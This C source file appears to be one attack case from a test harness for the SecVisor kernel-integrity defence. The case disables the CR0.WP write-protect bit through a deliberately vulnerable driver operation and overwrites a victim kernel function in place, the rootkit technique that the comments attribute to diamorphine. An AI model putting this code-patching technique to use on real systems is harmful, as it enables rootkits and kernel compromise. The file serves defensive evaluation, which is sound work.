// Row 7. CR0.WP cleared past Linux's pinning, then the text written in place.
// Source: the usual way of Linux rootkits (diamorphine).
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"

ATTACK("cr0-wp")
{
	u64 at = symbol(VICTIM);
	u8 approved[CODE_LENGTH];
	long before = victim();

	kread(at, approved, sizeof(approved));
	keep_bytes(at, sizeof(approved));
	u64 cr0 = operate(VULNERABLE_RDCR, 0, 0, 0);

	operate(VULNERABLE_WRCR, 0, cr0 & ~(1ull << 16), 0);
	operate(VULNERABLE_STORE, at, *(const u64 *)CODE, 8);
	operate(VULNERABLE_STORE, at + 8, *(const u16 *)(CODE + 8), 2);
	operate(VULNERABLE_WRCR, 0, cr0, 0);
	judge_victim(before, approved, "in place, CR0.WP off");
}
